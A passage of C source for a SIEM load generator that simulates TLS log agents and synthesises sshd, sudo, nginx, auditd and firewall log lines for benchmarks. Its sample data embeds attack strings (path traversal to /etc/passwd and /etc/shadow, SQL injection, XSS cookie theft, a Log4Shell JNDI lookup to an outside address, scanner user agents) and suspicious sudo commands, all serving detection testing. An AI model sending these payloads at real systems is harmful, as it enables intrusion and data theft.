/*
 * loadgen – simulates N minisoc agents for benchmarks: real certificates,
 * real TLS 1.3, the real wire protocol (docs/protocol.md), replaying a
 * realistic event mix at a target rate or flat out. Every M-th event
 * carries a time stamp so alert latency can be measured.
 *
 *   loadgen --port P --pki DIR [--host 127.0.0.1] [--server-name collector.minisoc.local]
 *           [--agents N] [--rate R] (--events E | --seconds S) [--mark M] [--run ID]
 *           [--mode minisoc|syslog] [--batch B] [--window W] [--mix builtin|FILE] [--quiet]
 *           [--syslog-format 5424|3164] [--max-frame BYTES] [--pool N] [--seed S]
 *           [--agent-prefix P] [--dump | --dump-mix] [--dry-run]
 *
 * Agents. Simulated agent I (1..N) presents DIR/agent-<P>I.crt and .key
 * (P = --agent-prefix, default "lg"; `deploy/pki.sh DIR lg1 lg2 ...` makes
 * them) and verifies the server against DIR/ca.crt and --server-name, so
 * its identity is the CN lgI. All agents run in one thread: non-blocking
 * sockets, OpenSSL directly, ppoll(2). Sending starts once every agent is
 * connected (minisoc mode: hello answered); "seconds" runs from there.
 *
 * minisoc mode (default): HELLO, then BATCH frames of up to --batch events
 * (default 256; a frame never passes --max-frame, default 1 MiB, the
 * collector's default limits.max_frame). At most --window events per agent
 * (default 65536) are unacknowledged; the generator waits for ACKs. Sequence
 * numbers start just above the number the collector answers the hello with
 * (what it already handled for that identity), so reruns against the same
 * Redis are fine. At the end every event is acknowledged before the agent
 * sends its close_notify: "acked" is what the collector durably handled.
 * An ERROR frame, a refused certificate or a lost connection ends the run
 * (exit 1): a benchmark does not reconnect.
 *
 * syslog mode: the same events as RFC 5424 (or --syslog-format 3164) syslog
 * messages over TLS with octet-counting framing (RFC 5425 / RFC 6587), one
 * connection per agent, same certificates, pacing and markers, for a
 * syslog receiver such as rsyslog's imtcp with the ossl stream driver. No
 * acknowledgements: an agent is done when everything is written, its
 * close_notify sent and the receiver has closed its side (or 5 s passed);
 * "acked" then equals "sent".
 *
 * Pacing. --rate R is events/s summed over all agents (0, the default: flat
 * out). Each agent sends R/N per second on absolute CLOCK_MONOTONIC
 * deadlines: it wakes about every millisecond (or when its next event is
 * due) and sends what is due by then, so a burst is about 1 ms worth. A
 * stall (window full, slow receiver) is caught up for at most 100 ms; what
 * is older is dropped from the schedule and counted as "slipped".
 * --events E is split evenly over the agents; --seconds S stops generating
 * after S seconds (then the outstanding ACKs are awaited).
 *
 * Markers. One event in --mark M (default 100, 0 = none) carries
 * "MSEQ <run> <n> t=<ns> " where n counts 0, 1, 2 ... over the whole run
 * (all agents) and t is CLOCK_REALTIME in ns taken as the line is put into
 * its batch, just before it is written to the socket. The collector rule of
 * tests/integration/rules-seq alerts on MSEQ, and bench/alert_latency.py
 * and tests/integration/seqcheck.py read the marker back. The marker sits
 * where the line still decodes as its kind: after an sshd line's "ssh2"
 * (sshd's ": info" trailer) or at the end of a message the decoders read
 * left to right (other sshd lines, auditd and netfilter records as more
 * words; in an auditd record "t=<ns>" becomes a field "t" nothing reads).
 * Lines without such a place (sshd "Invalid user", whose source address
 * must end the line; sudo, whose COMMAND= takes the rest; PAM session
 * lines) and nginx access lines (they decode as category webserver without
 * product linux, so the rules-seq rule, product linux, never sees them) are
 * never marked: the marker moves to the next event that can carry one. The
 * number of markers sent is printed as "marked=K"; they are exactly
 * 0..K-1.
 *
 * The builtin mix (--mix builtin) is a pool of --pool (default 65536)
 * events drawn once from a seeded generator (--seed), cycled by every agent
 * from its own offset; only time stamps, audit serials and markers change
 * per event. Shares of lines (the start-up line "mix:" prints the pool's):
 *
 *   30 % sshd, /var/log/auth.log: failed passwords (root and real accounts
 *        from a few dozen attacking addresses), failed passwords for and
 *        "Invalid user" lines of unknown accounts, preauth closes and
 *        disconnects, accepted publickey and password logins from internal
 *        addresses (rarely root), their PAM session lines, disconnects.
 *   10 % sudo, /var/log/auth.log: a command with its PAM session opened and
 *        closed, Ansible's become commands, a few wrong passwords and
 *        "user NOT in sudoers"; about 3 % of commands are suspicious
 *        (a root shell, reading /etc/shadow).
 *   35 % nginx, /var/log/nginx/access.log, combined log format: pages,
 *        API calls, static files, bots; 1 % attacks (path traversal, SQL
 *        injection, .env/.git probes, XSS, Log4Shell, scanner user agents).
 *   15 % auditd, /var/log/audit/audit.log (log_format RAW): SYSCALL
 *        (execve) and EXECVE record pairs of one event (same stamp and
 *        serial), arguments hex-encoded as auditd does; about 2 % of
 *        commands are suspicious (download piped to a shell, reverse
 *        shells, setuid chmod).
 *   10 % netfilter, /var/log/kern.log: "kernel: [UFW BLOCK] IN=eth0 ..."
 *        TCP SYNs to usual targets (many from the attacking addresses,
 *        which also scan), UDP, ICMP, a few [UFW ALLOW].
 *
 * Lines of auth.log and kern.log carry Debian 12's rsyslog header
 * ("2026-11-25T16:49:02.123456+00:00 lg1 sshd[1234]: ...", UTC, host =
 * the agent's name); nginx and auditd lines are as their daemons write
 * them. In syslog mode each event is one message of facility/severity as
 * the daemon logs it, with APP-NAME sshd, sudo, nginx, audisp-syslog or
 * kernel and the same message text.
 *
 * The pool is laid out as the agent sends its lines (--tick, default 256):
 * in read ticks of that many lines, each tick's lines file by file in a
 * fixed file order, in their drawn order within a file. The agent's read
 * tick (agent/tail.c) reads every followed file to its end in turn, so its
 * batches carry runs of lines of one file; at the rates a simulated agent
 * sends here (100,000 lines/s and more, a tick every 3 ms) a tick has
 * hundreds of lines. --tick 1 draws every event on its own (the files
 * interleaved line by line), as all runs before 2026-11-26 14:00 did.
 *
 * --mix FILE: one template per line, "source<TAB>line" (empty lines and
 * lines starting with '#' are skipped), cycled; sent as written (no time
 * stamp is changed). "@MARK@" in a line says where the marker goes, and
 * "@MARK:SEP@" the same with SEP (up to 16 bytes, no '@') written before
 * the marker; the token is removed from unmarked lines. When no line of
 * the file has one, every line may be marked, the marker appended after a
 * space; when some have it, only those are marked (a rule may not see
 * every line: see above).
 * In syslog mode a line is sent as "<13>" followed by the line.
 *
 * --dump writes the events of agent 1 (--events of them, default 1000) to
 * stdout instead of connecting: "source<TAB>line" in minisoc mode, the
 * syslog messages in syslog mode. --dump-mix writes them as a --mix FILE:
 * "@MARK[:SEP]@" where the marker may go, no marker. --dry-run builds and
 * encodes everything as a real run would but sends nothing: the
 * generator's own speed.
 *
 * Output: a progress line on stderr every second (not with --quiet); at
 * the end on stdout "loadgen: run=ID marked=K mark_every=M slipped=S
 * cpu_s=C cpu_pct=P" (the generator's own CPU over the run), in minisoc
 * mode one "loadgen: agent=lgI handled_before=H seq=A..B sent=E" per
 * agent, and, last, exactly:
 *
 *   loadgen: mode=<m> agents=<N> sent=<E> acked=<A> seconds=<S.sss> rate=<R>
 *
 * (seconds from the first send to the last ACK, syslog mode: to the last
 * close by the receiver, which has then read everything; rate = sent /
 * seconds). SIGINT/SIGTERM stop generating and wait for the ACKs; a second
 * one ends at once. Exit status: 0 success, 1 connection, TLS or protocol
 * error (one clear message on stderr), 2 bad usage.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <limits.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>

#include "ms_buf.h"
#include "ms_proto.h"
#include "ms_tls.h"
#include "ms_util.h"

#define LG_NS 1000000000LL
#define LG_TICK_NS 1000000LL		/* pacing granularity: a burst is ~1 ms worth */
#define LG_CATCHUP_NS 100000000LL	/* a stall is caught up for at most 100 ms */
#define LG_CONNECT_NS (10 * LG_NS)	/* connect + handshake + hello (the collector's limit) */
#define LG_DEAD_NS (45 * LG_NS)		/* no frame from the collector while we wait: dead */
#define LG_HEARTBEAT_NS (15 * LG_NS)	/* our silence before a HEARTBEAT */
#define LG_CLOSE_NS (5 * LG_NS)		/* wait for the peer's close after ours */
#define LG_OUT_HIGH (256u * 1024u)	/* bytes built per fill of the output buffer */
#define LG_OUT_CAP (64u << 20)
#define LG_IN_MAX (MS_PROTO_HDR_LEN + 65536u)	/* the agent's cap on collector frames */
#define LG_MSG_MAX (MS_PROTO_MAX_LINE - 512u)	/* longest template text */
#define LG_SCRATCH (MS_PROTO_MAX_LINE + 1024u)
#define LG_MARK_MAX 128
#define LG_TAG_MAX 48
#define LG_NAME_MAX 64
#define LG_WEB_DATE_LEN 26	/* "25/Nov/2026:16:49:02 +0000" */
#define LG_AUDIT_STAMP_LEN 22	/* "1764068401.123:1234567" */
#define LG_MAX_AGENTS 4096

enum lg_mode { LG_MODE_MINISOC, LG_MODE_SYSLOG };

enum lg_kind { LG_SSHD, LG_SUDO, LG_WEB, LG_AUDIT, LG_FW, LG_FILE, LG_NKINDS };

static const char *const lg_kind_names[LG_NKINDS] = {
	"sshd", "sudo", "nginx", "auditd", "firewall", "file",
};

/* How a template becomes its log file's line. */
enum lg_shape {
	LG_SHAPE_SYSLOG,	/* rsyslog header + message (auth.log, kern.log) */
	LG_SHAPE_RAW,		/* the message is the line (access.log, audit.log) */
	LG_SHAPE_LINE,		/* --mix FILE: the line as written */
};

/*
 * One event of the pool. The message text lives in the pool's arena
 * (msg_off); the offsets below are into that text; -1 = none.
 */
struct lg_tpl {
	uint32_t msg_off;
	uint32_t msg_len;
	const char *source;	/* static, or owned by the pool (file mix) */
	uint16_t source_len;
	uint8_t kind, shape, pri;
	bool audit_same;	/* continues the previous record's event (same stamp, serial) */
	bool attack;		/* counted in the start-up line only */
	int32_t web_date;	/* the nginx date's 26 bytes */
	int32_t audit_stamp;	/* the audit(...) stamp's 22 bytes */
	int32_t mark_at;	/* where the marker goes */
	const char *mark_pre;	/* written before the marker: "", " " or ": " */
	char tag[LG_TAG_MAX];	/* "sshd[1234]" as in a syslog file */
	char tag5424[LG_TAG_MAX];	/* "sshd 1234": APP-NAME and PROCID */
};

struct lg_pool {
	struct lg_tpl *t;
	size_t n, alloc;
	char *arena;
	size_t used, cap;
	char **owned;		/* file mix: source strings */
	size_t nowned;
};

/* Wall-clock strings, redone once per batch (the date parts once per second). */
struct lg_clock {
	int64_t sec;
	int64_t ms;		/* ms since the epoch, for the wire event */
	char rfc3339[33];	/* "2026-11-25T16:49:02.123456+00:00" */
	char rfc5424[28];	/* "2026-11-25T16:49:02.123456Z" */
	char bsd[16];		/* "Nov 25 16:49:02" */
	char web[LG_WEB_DATE_LEN + 1];
	char audit[15];		/* "1764068401.123" */
};

enum lg_state {
	LG_ST_CONNECTING,	/* TCP connect in progress */
	LG_ST_HANDSHAKE,	/* TLS handshake */
	LG_ST_HELLO,		/* hello sent, waiting for the first ACK */
	LG_ST_READY,		/* sending */
	LG_ST_CLOSING,		/* close_notify sent, waiting for the peer's close */
	LG_ST_DONE,
};

struct lg;

struct lg_agent {
	struct lg *lg;
	unsigned idx;		/* 0-based; the certificate is agent-<prefix><idx+1> */
	char name[LG_NAME_MAX];
	SSL_CTX *ctx;
	SSL *ssl;
	int fd;
	enum lg_state state;
	bool want_write;	/* OpenSSL waits for the socket to take more */
	bool gen_done;		/* nothing more will be generated */
	struct ms_buf out;	/* frames not yet taken by SSL_write */
	size_t out_off;
	uint8_t *in;		/* frames from the collector */
	size_t in_len;
	char *scratch;		/* one line or syslog frame being built */
	uint64_t quota;		/* events to send (UINT64_MAX: until --seconds) */
	uint64_t sent;
	uint64_t handled0;	/* the collector's answer to the hello */
	uint64_t next_seq;
	uint64_t acked_seq;
	size_t pool_pos;
	uint64_t since_mark;
	uint32_t audit_serial;
	bool audit_have;
	char audit_last[LG_AUDIT_STAMP_LEN];
	double rate_per_ns;	/* 0: flat out */
	int64_t sched_ns;	/* pacing: sched_sent events were due at sched_ns */
	uint64_t sched_sent;
	uint64_t slipped;
	int64_t last_rx_ns, last_tx_ns, deadline_ns;
	int64_t done_ns;
};

struct lg_conf {
	const char *host, *port, *pki, *server_name, *run, *mix, *prefix;
	unsigned agents;
	double rate;
	uint64_t events;
	double seconds;
	uint64_t mark;
	enum lg_mode mode;
	bool bsd;		/* syslog mode: RFC 3164 instead of 5424 */
	unsigned batch;
	uint64_t window;
	uint32_t max_frame;
	size_t pool;
	size_t tick;		/* builtin mix: lines per agent read tick */
	uint64_t seed;
	bool quiet, dump, dump_mix, dry_run;
};

struct lg {
	struct lg_conf c;
	struct lg_pool pool;
	struct lg_agent *a;
	struct lg_clock clk;
	uint64_t marks;		/* markers handed out: the next n */
	int64_t start_ns, stop_ns;
	struct addrinfo *ai;
};

static volatile sig_atomic_t lg_signals;

static void
lg_signal_cb(int sig)
{
	(void)sig;
	lg_signals++;
}

static int64_t
lg_mono_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * LG_NS + ts.tv_nsec;
}

static int64_t
lg_real_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return (int64_t)ts.tv_sec * LG_NS + ts.tv_nsec;
}

static void lg_die(int code, const char *fmt, ...) __attribute__((format(printf, 2, 3), noreturn));

static void
lg_die(int code, const char *fmt, ...)
{
	va_list ap;

	fputs("loadgen: ", stderr);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(code);
}

/* ---- random numbers (xorshift64*, seeded: the same pool every run) ------ */

static uint64_t lg_rng_state = 0x9e3779b97f4a7c15ULL;

static uint32_t
lg_rnd(void)
{
	uint64_t x = lg_rng_state;

	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	lg_rng_state = x;
	return (uint32_t)((x * 0x2545f4914f6cdd1dULL) >> 32);
}

/* Uniform in [0, n), n > 0. */
static uint32_t
lg_below(uint32_t n)
{
	return (uint32_t)(((uint64_t)lg_rnd() * n) >> 32);
}

/* True with probability pct / 100 (pct may be fractional). */
static bool
lg_chance(double pct)
{
	return lg_rnd() < (uint32_t)(pct / 100.0 * 4294967295.0);
}

#define LG_PICK(arr) ((arr)[lg_below((uint32_t)MS_ARRAY_LEN(arr))])

/* ---- the pool ----------------------------------------------------------- */

static void
lg_pool_fini(struct lg_pool *p)
{
	free(p->t);
	free(p->arena);
	for (size_t i = 0; i < p->nowned; i++)
		free(p->owned[i]);
	free(p->owned);
	memset(p, 0, sizeof(*p));
}

/*
 * Appends template t with message msg (len bytes, copied into the arena).
 * Exits on out of memory: the pool is built before anything else runs.
 */
static void
lg_pool_add(struct lg_pool *p, const struct lg_tpl *t, const char *msg, size_t len)
{
	struct lg_tpl *nt;

	if (len > LG_MSG_MAX)
		lg_die(2, "a template line is longer than %u bytes", LG_MSG_MAX);
	if (p->n == p->alloc) {
		size_t na = p->alloc ? p->alloc * 2 : 4096;
		if ((nt = realloc(p->t, na * sizeof(*nt))) == NULL)
			lg_die(1, "out of memory");
		p->t = nt;
		p->alloc = na;
	}
	if (p->used + len > p->cap) {
		size_t nc = p->cap ? p->cap * 2 : 1u << 20;
		char *na;
		while (nc < p->used + len)
			nc *= 2;
		if ((na = realloc(p->arena, nc)) == NULL)
			lg_die(1, "out of memory");
		p->arena = na;
		p->cap = nc;
	}
	memcpy(p->arena + p->used, msg, len);
	p->t[p->n] = *t;
	p->t[p->n].msg_off = (uint32_t)p->used;
	p->t[p->n].msg_len = (uint32_t)len;
	p->t[p->n].source_len = (uint16_t)strlen(t->source);
	p->n++;
	p->used += len;
}

/* ---- the builtin mix ---------------------------------------------------- */

#define LG_AUTH_LOG "/var/log/auth.log"
#define LG_ACCESS_LOG "/var/log/nginx/access.log"
#define LG_AUDIT_LOG "/var/log/audit/audit.log"
#define LG_KERN_LOG "/var/log/kern.log"

/* syslog priorities as the daemons log: facility * 8 + severity */
#define LG_PRI_AUTH_INFO (4 * 8 + 6)
#define LG_PRI_AUTHPRIV_NOTICE (10 * 8 + 5)
#define LG_PRI_AUTHPRIV_INFO (10 * 8 + 6)
#define LG_PRI_AUTHPRIV_ALERT (10 * 8 + 1)
#define LG_PRI_LOCAL7_INFO (23 * 8 + 6)
#define LG_PRI_USER_INFO (1 * 8 + 6)
#define LG_PRI_KERN_WARNING (0 * 8 + 4)

struct lg_user {
	const char *name;
	unsigned uid;
};

static const struct lg_user lg_staff[] = {
	{ "alice", 1000 }, { "bob", 1001 }, { "carol", 1002 }, { "dave", 1003 },
	{ "erin", 1004 }, { "deploy", 1005 }, { "ansible", 1006 }, { "jenkins", 1007 },
};
/* Accounts that exist and that attackers try. */
static const char *const lg_known_targets[] = { "root", "root", "root", "root", "alice",
	"deploy", "git", "postgres", "www-data", "backup" };
/* Names that do not exist here. */
static const char *const lg_unknown_users[] = { "admin", "test", "user", "oracle", "guest",
	"pi", "ftpuser", "support", "ubnt", "test1", "hadoop", "minecraft", "steam", "ubuntu",
	"centos", "nagios", "odoo", "es", "elastic", "dev", "tomcat", "mysql", "vagrant",
	"administrator", "default", "user1", "server", "teamspeak", "zabbix", "sysadmin" };

/* First octets of public addresses the traffic comes from. */
static const unsigned lg_public_a[] = { 23, 31, 37, 45, 62, 77, 78, 81, 89, 91, 93, 103,
	109, 141, 146, 152, 159, 167, 176, 178, 185, 188, 193, 195, 212, 217 };

#define LG_ATTACKERS 48
#define LG_WEB_CLIENTS 4096
#define LG_SERVERS 8

struct lg_gen {
	char attackers[LG_ATTACKERS][16];
	char web_clients[LG_WEB_CLIENTS][16];
	char servers[LG_SERVERS][16];
	char server_mac[LG_SERVERS][18];
	uint32_t kern_uptime_s;
	unsigned sudo_pts;
};

static void
lg_public_ip(char out[16])
{
	snprintf(out, 16, "%u.%u.%u.%u", LG_PICK(lg_public_a), lg_below(256), lg_below(256),
	    1 + lg_below(254));
}

static void
lg_internal_ip(char out[16])
{
	snprintf(out, 16, "10.%u.%u.%u", lg_below(4), lg_below(32), 2 + lg_below(250));
}

static unsigned
lg_port(void)
{
	return 1024 + lg_below(64512);
}

static unsigned
lg_pid(void)
{
	return 600 + lg_below(4000000 - 600);
}

static void
lg_gen_init(struct lg_gen *g)
{
	memset(g, 0, sizeof(*g));
	for (unsigned i = 0; i < LG_ATTACKERS; i++)
		lg_public_ip(g->attackers[i]);
	for (unsigned i = 0; i < LG_WEB_CLIENTS; i++) {
		if (lg_chance(3))
			lg_internal_ip(g->web_clients[i]);
		else
			lg_public_ip(g->web_clients[i]);
	}
	for (unsigned i = 0; i < LG_SERVERS; i++) {
		snprintf(g->servers[i], 16, "10.0.1.%u", 10 + i);
		snprintf(g->server_mac[i], 18, "52:54:00:%02x:%02x:%02x", lg_below(256),
		    lg_below(256), lg_below(256));
	}
	g->kern_uptime_s = 86400 + lg_below(86400 * 30);
}

/* A template of the given kind with no time stamp and no marker place yet. */
static struct lg_tpl
lg_tpl_make(enum lg_kind kind, enum lg_shape shape, const char *source, int pri)
{
	struct lg_tpl t;

	memset(&t, 0, sizeof(t));
	t.kind = (uint8_t)kind;
	t.shape = (uint8_t)shape;
	t.source = source;
	t.pri = (uint8_t)pri;
	t.web_date = -1;
	t.audit_stamp = -1;
	t.mark_at = -1;
	t.mark_pre = "";
	return t;
}

static void
lg_tpl_tag(struct lg_tpl *t, const char *app, unsigned pid)
{
	if (pid) {
		snprintf(t->tag, sizeof(t->tag), "%s[%u]", app, pid);
		snprintf(t->tag5424, sizeof(t->tag5424), "%s %u", app, pid);
	} else {
		snprintf(t->tag, sizeof(t->tag), "%s", app);
		snprintf(t->tag5424, sizeof(t->tag5424), "%s -", app);
	}
}

/* Adds a message whose marker, if any, goes at its end after pre. */
static void
lg_add_end(struct lg_pool *p, struct lg_tpl *t, const char *msg, int len, const char *pre)
{
	if (pre != NULL) {
		t->mark_at = len;
		t->mark_pre = pre;
	}
	lg_pool_add(p, t, msg, (size_t)len);
}

/* One sshd event (sometimes two: a login and its PAM session). */
static void
lg_gen_sshd(struct lg_pool *p, struct lg_gen *g)
{
	struct lg_tpl t = lg_tpl_make(LG_SSHD, LG_SHAPE_SYSLOG, LG_AUTH_LOG, LG_PRI_AUTH_INFO);
	const char *atk = g->attackers[lg_below(LG_ATTACKERS)];
	char m[512], ip[16];
	unsigned r = lg_below(1000), pid = lg_pid();
	int n;

	lg_tpl_tag(&t, "sshd", pid);
	if (r < 260) {
		/* brute force on accounts that exist */
		n = snprintf(m, sizeof(m), "Failed password for %s from %s port %u ssh2",
		    LG_PICK(lg_known_targets), atk, lg_port());
		lg_add_end(p, &t, m, n, ": ");
	} else if (r < 380) {
		n = snprintf(m, sizeof(m), "Failed password for invalid user %s from %s port %u ssh2",
		    LG_PICK(lg_unknown_users), atk, lg_port());
		lg_add_end(p, &t, m, n, ": ");
	} else if (r < 480) {
		/* the source must end the line: no place for a marker */
		n = snprintf(m, sizeof(m), "Invalid user %s from %s port %u",
		    LG_PICK(lg_unknown_users), atk, lg_port());
		lg_add_end(p, &t, m, n, NULL);
	} else if (r < 560) {
		if (lg_chance(50))
			n = snprintf(m, sizeof(m), "Connection closed by authenticating user %s %s "
			    "port %u [preauth]", LG_PICK(lg_known_targets), atk, lg_port());
		else
			n = snprintf(m, sizeof(m), "Connection closed by invalid user %s %s port %u "
			    "[preauth]", LG_PICK(lg_unknown_users), atk, lg_port());
		lg_add_end(p, &t, m, n, " ");
	} else if (r < 640) {
		n = snprintf(m, sizeof(m), "Received disconnect from %s port %u:11: Bye Bye "
		    "[preauth]", atk, lg_port());
		lg_add_end(p, &t, m, n, " ");
	} else if (r < 660) {
		if (lg_chance(50))
			n = snprintf(m, sizeof(m), "error: maximum authentication attempts exceeded "
			    "for root from %s port %u ssh2 [preauth]", atk, lg_port());
		else
			n = snprintf(m, sizeof(m), "Did not receive identification string from %s "
			    "port %u", atk, lg_port());
		lg_add_end(p, &t, m, n, " ");
	} else if (r < 840) {
		/* a login from inside, with its PAM session line */
		const struct lg_user *u = &LG_PICK(lg_staff);
		const char *name = lg_chance(1) ? "root" : u->name;
		unsigned uid = strcmp(name, "root") == 0 ? 0 : u->uid;
		static const char b64[] =
		    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
		char fp[44];
		lg_internal_ip(ip);
		for (unsigned k = 0; k < 43; k++)
			fp[k] = b64[lg_below(64)];
		fp[43] = '\0';
		if (lg_chance(75))
			n = snprintf(m, sizeof(m), "Accepted publickey for %s from %s port %u ssh2: "
			    "%s SHA256:%s", name, ip, lg_port(), lg_chance(70) ? "ED25519" : "RSA",
			    fp);
		else
			n = snprintf(m, sizeof(m), "Accepted password for %s from %s port %u ssh2",
			    name, ip, lg_port());
		if (strstr(m, " ssh2: ") != NULL)
			lg_add_end(p, &t, m, n, " ");
		else
			lg_add_end(p, &t, m, n, ": ");
		t = lg_tpl_make(LG_SSHD, LG_SHAPE_SYSLOG, LG_AUTH_LOG, LG_PRI_AUTHPRIV_INFO);
		lg_tpl_tag(&t, "sshd", pid);
		n = snprintf(m, sizeof(m), "pam_unix(sshd:session): session opened for user "
		    "%s(uid=%u) by (uid=0)", name, uid);
		lg_add_end(p, &t, m, n, NULL);
	} else if (r < 920) {
		lg_internal_ip(ip);
		n = snprintf(m, sizeof(m), "Disconnected from user %s %s port %u",
		    LG_PICK(lg_staff).name, ip, lg_port());
		lg_add_end(p, &t, m, n, " ");
	} else {
		t.pri = LG_PRI_AUTHPRIV_INFO;
		n = snprintf(m, sizeof(m), "pam_unix(sshd:session): session closed for user %s",
		    LG_PICK(lg_staff).name);
		lg_add_end(p, &t, m, n, NULL);
	}
}

/* One sudo use: the command and its PAM session lines, or a failure. */
static void
lg_gen_sudo(struct lg_pool *p, struct lg_gen *g)
{
	static const char *const cmds[] = {
		"/usr/bin/systemctl restart nginx", "/usr/bin/systemctl status nginx",
		"/usr/bin/apt update", "/usr/bin/apt-get install -y htop",
		"/usr/bin/journalctl -u nginx --since today", "/usr/bin/tail -n 200 /var/log/nginx/error.log",
		"/usr/bin/docker ps", "/usr/bin/docker compose up -d", "/usr/sbin/ufw status verbose",
		"/usr/bin/less /var/log/syslog", "/usr/bin/certbot renew", "/usr/sbin/nginx -t",
		"/usr/bin/systemctl reload nginx", "/usr/bin/du -sh /var/lib/docker",
	};
	static const char *const bad_cmds[] = {
		"/bin/bash", "/usr/bin/su -", "/usr/bin/cat /etc/shadow", "/usr/bin/visudo",
	};
	const struct lg_user *u = &LG_PICK(lg_staff);
	struct lg_tpl t = lg_tpl_make(LG_SUDO, LG_SHAPE_SYSLOG, LG_AUTH_LOG, LG_PRI_AUTHPRIV_NOTICE);
	unsigned r = lg_below(1000), pid = lg_pid(), pts = lg_below(8);
	char m[768];
	int n;

	lg_tpl_tag(&t, "sudo", pid);
	if (r < 40) {
		/* a wrong password, then sudo's own line about it */
		t.pri = LG_PRI_AUTHPRIV_INFO;
		n = snprintf(m, sizeof(m), "pam_unix(sudo:auth): authentication failure; "
		    "logname=%s uid=%u euid=0 tty=/dev/pts/%u ruser=%s rhost=  user=%s",
		    u->name, u->uid, pts, u->name, u->name);
		lg_add_end(p, &t, m, n, NULL);
		t.pri = LG_PRI_AUTHPRIV_ALERT;
		n = snprintf(m, sizeof(m), "%s : 1 incorrect password attempt ; TTY=pts/%u ; "
		    "PWD=/home/%s ; USER=root ; COMMAND=%s", u->name, pts, u->name, LG_PICK(cmds));
		lg_add_end(p, &t, m, n, NULL);
		return;
	}
	if (r < 50) {
		t.pri = LG_PRI_AUTHPRIV_ALERT;
		n = snprintf(m, sizeof(m), "%s : user NOT in sudoers ; TTY=pts/%u ; PWD=/home/%s ; "
		    "USER=root ; COMMAND=/bin/bash", lg_chance(50) ? "www-data" : "guest", pts,
		    u->name);
		lg_add_end(p, &t, m, n, NULL);
		return;
	}
	if (r < 250) {
		/* Ansible's become: no tty, a generated command */
		static const struct lg_user ans = { "ansible", 1006 };
		u = &ans;
		n = snprintf(m, sizeof(m), "%s : PWD=/home/%s ; USER=root ; COMMAND=/bin/sh -c "
		    "echo BECOME-SUCCESS-%08x%08x ; /usr/bin/python3 "
		    "/home/%s/.ansible/tmp/ansible-tmp-%u.%u-%u/AnsiballZ_apt.py", u->name,
		    u->name, lg_rnd(), lg_rnd(), u->name, 1764000000 + lg_below(100000),
		    lg_below(1000000), lg_below(300000));
	} else {
		n = snprintf(m, sizeof(m), "%s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s",
		    u->name, pts, u->name, lg_chance(3) ? LG_PICK(bad_cmds) : LG_PICK(cmds));
	}
	lg_add_end(p, &t, m, n, NULL);
	t.pri = LG_PRI_AUTHPRIV_INFO;
	n = snprintf(m, sizeof(m), "pam_unix(sudo:session): session opened for user root(uid=0) "
	    "by %s(uid=%u)", u->name, u->uid);
	lg_add_end(p, &t, m, n, NULL);
	n = snprintf(m, sizeof(m), "pam_unix(sudo:session): session closed for user root");
	lg_add_end(p, &t, m, n, NULL);
}

/* One nginx access line; 1 % are attacks. */
static void
lg_gen_web(struct lg_pool *p, struct lg_gen *g)
{
	static const char *const uas[] = {
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
		    "Chrome/130.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
		    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
		    "Gecko) Version/18.1 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
		    "like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
		    "Chrome/130.0.0.0 Mobile Safari/537.36",
	};
	static const char *const bots[] = {
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1",
	};
	static const char *const words[] = { "shoes", "jacket", "red+dress", "laptop", "usb-c",
		"gift", "sale", "coffee", "tent", "headphones" };
	static const struct {
		const char *method, *uri, *ua;
		unsigned status;
	} attacks[] = {
		{ "GET", "/../../../../etc/passwd", NULL, 400 },
		{ "GET", "/index.php?page=../../../../../etc/passwd", NULL, 404 },
		{ "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", NULL, 400 },
		{ "GET", "/static/..%2f..%2f..%2f..%2fetc%2fshadow", NULL, 400 },
		{ "GET", "/products?id=1%27%20OR%20%271%27%3D%271", NULL, 500 },
		{ "GET", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", NULL, 500 },
		{ "GET", "/api/v1/products?id=1;SELECT%20pg_sleep(5)--", NULL, 500 },
		{ "GET", "/.env", NULL, 404 },
		{ "GET", "/.git/config", NULL, 404 },
		{ "GET", "/wp-login.php", NULL, 404 },
		{ "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", NULL, 200 },
		{ "GET", "/", "${jndi:ldap://203.0.113.77:1389/Exploit}", 200 },
		{ "GET", "/products?id=1", "sqlmap/1.8.2#stable (https://sqlmap.org)", 200 },
		{ "GET", "/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", 200 },
		{ "GET", "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
		    "https://nmap.org/book/nse.html)", 200 },
